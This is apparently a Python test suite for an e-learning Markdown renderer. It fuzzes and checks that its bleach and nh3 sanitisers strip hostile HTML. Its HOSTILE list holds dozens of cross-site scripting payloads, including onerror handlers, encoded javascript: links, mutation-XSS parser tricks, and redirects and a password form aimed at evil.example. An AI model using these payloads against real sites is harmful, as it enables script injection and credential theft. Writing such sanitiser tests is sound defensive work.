"""No text of anybody becomes anything but plain, harmless markup: by each barrier alone."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from elearn.core.markdown import Image, Refused, render, render_inline
from elearn.core.markdown.allow import (
    INLINE_TAGS,
    TAGS,
    _clean_bleach,
    _clean_nh3,
    is_safe_address,
    may_stand,
)

PREFIX = "unit"
BARRIERS = [_clean_bleach, _clean_nh3]

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="/m/a.png" srcset="//evil.example 1x">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="https://evil.example/track.gif">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="https:/\\evil.example">x</a>',
    '<a href="/ok" onclick="alert(1)">x</a>',
    '<a href="/ok" target="_blank" ping="//evil.example">x</a>',
    '<a href="/ok" style="position:fixed;inset:0">x</a>',
    '<p style="background:url(//evil.example)">x</p>',
    "<style>*{display:none}</style>",
    '<link rel="stylesheet" href="//evil.example/a.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name="password"><button>ok</button></form>',
    '<button formaction="//evil.example">x</button>',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,x#a"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    '<h2 id="location">x</h2>',
    '<h2 id="__proto__">x</h2>',
    '<h2 id="unit">x</h2>',
    '<p id="unit-a">x</p>',
    '<a id="getElementById" name="body" href="/x">x</a>',
    '<p class="record__seal button">x</p>',
    '<div class="table-scroll" tabindex="99" role="dialog" contenteditable>x</div>',
    '<span role="alert" aria-live="assertive">x</span>',
    '<img src="/m/a.png" width="999999999" height="1e9">',
    '<p lang="id" dir="rtl" data-x="1" hx-get="/logout" hidden>x</p>',
    "<x-custom onclick=alert(1)>x</x-custom>",
    '<a href="mailto:a@b.example%0abcc:all@b.example\nx">x</a>',
    "<a href='https://a.example/\u202egpj.exe'>x</a>",
]


class Tree(HTMLParser):
    """HTML as a flat list of what it holds, with the attributes sorted."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[tuple[object, ...]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.parts.append(("start", tag, tuple(sorted(attrs))))

    def handle_endtag(self, tag):
        self.parts.append(("end", tag))

    def handle_data(self, data):
        if self.parts and self.parts[-1][0] == "text":
            data = self.parts.pop()[1] + data
        self.parts.append(("text", data))

    def handle_comment(self, data):
        self.parts.append(("comment", data))

    def handle_decl(self, decl):
        self.parts.append(("declaration", decl))

    def handle_pi(self, data):
        self.parts.append(("instruction", data))


def assert_harmless(html: str, tags: dict[str, frozenset[str]] = TAGS) -> None:
    for part in Tree(html).parts:
        assert part[0] in {"start", "end", "text"}, part
        if part[0] == "text":
            continue
        assert part[1] in tags, part
        for name, value in part[2] if part[0] == "start" else ():
            assert name in tags[part[1]], part
            assert may_stand(name, value, PREFIX), part


@pytest.mark.parametrize("clean", BARRIERS)
@pytest.mark.parametrize("snippet", HOSTILE)
def test_each_barrier_alone_makes_a_hostile_snippet_harmless(clean, snippet):
    assert_harmless(clean(snippet, PREFIX))
    assert_harmless(clean(f"<p>{snippet}</p><table><tr><td>{snippet}", PREFIX))


@pytest.mark.parametrize("snippet", HOSTILE)
def test_a_hostile_snippet_in_a_text_comes_out_as_words(snippet):
    for source in (snippet, f"a {snippet} b", f"[x]({snippet})", f"![{snippet}]({snippet})"):
        assert_harmless(rendered(source))
        assert_harmless(render_inline(source), INLINE_TAGS)


def test_a_barrier_that_lets_everything_pass_is_seen():
    with pytest.raises(AssertionError):
        assert_harmless(HOSTILE[0])


ORDINARY = """
## Judul

Teks **tebal** *miring* `kode` [taut](a.md) [luar](https://a.example/?a=1&b=2) &copy;[^1]

| A | B |
| :-- | --: |
| 1 | 2 |

- [ ] tugas
- [x] selesai

1. satu

    > kutip "dengan" 'tanda' < & >

!!! tip "Kiat"
    Isi

Istilah
:   Arti

![alt "x"](small.png "Gambar & 1")

![alt](large.png)

```
<b>
```

---

[^1]: Catatan.
"""


def test_both_barriers_leave_ordinary_content_alone():
    from elearn.core.markdown.grammar import convert
    from elearn.core.markdown.labels import INDONESIAN

    html, _ = convert(ORDINARY, PREFIX, lambda _: "/x", image, INDONESIAN)
    trees = [Tree(clean(html, PREFIX)).parts for clean in BARRIERS]
    assert trees[0] == trees[1] == Tree(html).parts


def image(target: str) -> Image:
    return Image("/media/a.png", 640, 360, 400 * 1024 if "large" in target else 1024)


def rendered(source: str) -> str:
    return render(source, prefix=PREFIX, link=lambda _: "/courses/x", image=image).html


PIECES = st.sampled_from(
    [
        *HOSTILE,
        *("[", "]", "(", ")", "![", "](", "*", "**", "_", "`", "```\n", "~~~\n", "> ", "- ", "1. "),
        *("\n", "\n\n", "    ", "|", "|-|\n", "[^1]", "[^1]: ", "!!! note\n", ": ", "## ", "---\n"),
        *("&lt;", "&#x3c;", "&", "<", ">", '"', "'", "\\", "javascript:", "http://a.example"),
        *("- [ ] ", "\x02", "\x03", "\x02fence0\x03", "\x02klzzwxh:0000\x03", "\ufeff", "\u202e"),
        *("\x00", "\ud800", "é", "a", " ", "\r", "\t", "[a](b)", "![a](b)", "<http://a.example>"),
    ]
)
TEXTS = st.one_of(st.text(max_size=300), st.lists(PIECES, max_size=30).map("".join))


@given(TEXTS)
@settings(max_examples=150, deadline=None)
def test_whatever_the_text_only_allowed_markup_comes_out(source):
    try:
        html = rendered(source)
    except Refused:
        return
    assert_harmless(html)


@given(TEXTS)
@settings(max_examples=100, deadline=None)
def test_whatever_the_option_only_emphasis_and_code_come_out(source):
    try:
        html = render_inline(source)
    except Refused:
        return
    assert_harmless(html, INLINE_TAGS)


@given(st.lists(PIECES.filter(lambda piece: piece != "\ud800"), max_size=12).map("".join))
@settings(max_examples=100, deadline=None)
def test_each_barrier_alone_is_enough_for_any_html(source):
    for clean in BARRIERS:
        assert_harmless(clean(source, PREFIX))


@pytest.mark.parametrize(
    ("attribute", "value", "may"),
    [
        ("id", "unit-a-1", True),
        ("id", "unit", False),
        ("id", "unit-", False),
        ("id", "location", False),
        ("id", "unit-a b", False),
        ("href", "#unit-a", True),
        ("href", "#content", False),
        ("href", "#", False),
        ("href", "javascript:alert(1)", False),
        ("src", "/media/a.png", True),
        ("src", "https://a.example/a.png", False),
        ("class", "figure", True),
        ("class", "figure button", False),
        ("class", " ", False),
        ("width", "640", True),
        ("width", "100%", False),
        ("rel", "opener", False),
        ("tabindex", "1", False),
        ("role", "alert", False),
        ("alt", "<anything>", True),
        ("style", "color:red", False),
        ("onclick", "x", False),
    ],
)
def test_an_attribute_has_only_values_that_we_write_ourselves(attribute, value, may):
    assert may_stand(attribute, value, PREFIX) is may


@pytest.mark.parametrize(
    ("address", "safe"),
    [
        ("https://a.example/b?c#d", True),
        ("HTTP://a.example", True),
        ("mailto:a@b.example", True),
        ("/courses/x/", True),
        ("//a.example", False),
        ("/\\a.example", False),
        ("https://a.example\\@b.example", False),
        ("https:///a.example", False),
        ("https:a.example", False),
        ("tel:1", False),
        ("courses/x", False),
        ("https://a.example/ b", False),
        ("https://a.example/\u200b", False),
        ("/a\n//b", False),
        ("", False),
    ],
)
def test_an_address_is_safe_only_when_it_stays_here_or_says_where_it_goes(address, safe):
    assert is_safe_address(address) is safe
